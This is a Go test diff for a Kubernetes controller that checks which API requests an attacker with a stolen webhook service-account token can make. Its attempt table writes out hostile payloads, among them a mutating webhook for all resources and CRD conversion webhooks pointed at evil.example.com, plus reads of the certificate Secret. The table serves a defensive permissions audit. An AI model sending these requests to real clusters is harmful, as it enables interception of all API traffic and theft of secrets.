@@ -28,6 +28,7 @@ import (
 	"testing"
 
 	rbacv1 "k8s.io/api/rbac/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/util/sets"
 	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 )
@@ -57,9 +58,7 @@ func TestWebhookVariants(t *testing.T) {
 func TestWebhooksForAllSets(t *testing.T) {
 	t.Parallel()
 	text, err := os.ReadFile(filepath.Join(shared.root, "docs/scale.md"))
-	if err != nil {
-		t.Fatal(err)
-	}
+	must(t, err)
 	_, after, _ := strings.Cut(string(text), "\n### Webhooks for all sets\n")
 	_, after, _ = strings.Cut(after, "\n\n    ")
 	commands, _, ok := strings.Cut(after, "\n    kubectl apply ")
@@ -147,4 +146,51 @@ func missWebhookRight(t *testing.T, rules []rbacv1.PolicyRule, i int) {
 	e.eventually("the API server refuses to "+missing, func(ctx context.Context) error {
 		return e.refused(ctx, user, token, missing)
 	})
+}
+
+// webhookAttempts take the rights to keep the certificate of the webhooks.
+func webhookAttempts() []attempt {
+	const evil = `{"clientConfig":{"url":"https://evil.example.com/","service":null}`
+	const conversion = `{"spec":{"conversion":{"strategy":"Webhook","webhook":` + evil + `,"conversionReviewVersions":["v1"]}}}}`
+	const crds, secrets = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/", "/api/v1/namespaces/HOME/secrets"
+	return []attempt{
+		{what: "register a server of their own as an admission webhook for all resources", verb: "PUT",
+			path: "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/" + webhookAccount,
+			body: `{"webhooks":[` + evil + `,"name":"a.example.com","sideEffects":"None","admissionReviewVersions":["v1"],"rules":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*"]}]}]}`},
+		{what: "change the CRD of Foos", verb: "PUT", path: crds + "foos.samplecontroller.k8s.io", body: conversion},
+		{what: "change another CRD", verb: "PUT", path: crds + "memcacheds.cache.example.com", body: conversion}, // +drop:memcached
+		{what: "read the Secret with the certificate of the webhooks", verb: "GET", path: secrets + "/" + webhookAccount},
+		{what: "create a Secret in the controller's namespace", verb: "POST", path: secrets, body: "{metadata: {name: evil}}"},
+		{what: "read all Foos and Deployments", verb: "GET", path: "/apis/samplecontroller.k8s.io/v1alpha1/foos /apis/apps/v1/deployments"},
+		{what: "create, change or delete a Deployment", verb: "DELETE", path: deploymentsPath + "/x"},
+	}
+}
+
+// stolenToken tries what an attacker with the token of the webhooks' service account can do, where the
+// program keeps the certificate and where cert-manager does. The table of docs/security.md is its
+// result.
+func (w *webhookEnv) stolenToken(t *testing.T) {
+	e := newEnv(t)
+	// The controller of walkthrough 5 syncs all namespaces.
+	e.create("x")
+	e.awaitReady("x")
+	account := func(namespace, roles string) *attacker {
+		e.Helper()
+		attacker := newAttacker(e, systemNamespace, namespace, webhookAccount)
+		e.eventually("the token has the rights of "+roles, func(ctx context.Context) error {
+			_, err := attacker.kube.AppsV1().Deployments(e.namespace).List(ctx, metav1.ListOptions{})
+			return err
+		})
+		return attacker
+	}
+	own := account(systemNamespace, "with-webhook")
+	// With cert-manager the manifests bind one role.
+	binding := e.namespace + "-lookups"
+	shOnCleanup(t, "kubectl delete clusterrolebinding "+binding)
+	sh(t, fmt.Sprintf("kubectl create serviceaccount %[2]s --namespace=%[3]s && kubectl create clusterrolebinding %[1]s --clusterrole=%[2]s-lookups --serviceaccount=%[3]s:%[2]s", binding, webhookAccount, e.namespace))
+	shOnCleanup(t, fmt.Sprintf("kubectl delete serviceaccount %s --namespace=%s", webhookAccount, e.namespace))
+	certManager := account(e.namespace, "with-webhook-cert-manager")
+	for _, a := range slices.Concat(webhookAttempts(), otherAttempts()) {
+		mustDocument(t, a.what, own.succeeds(a), certManager.succeeds(a))
+	}
 }
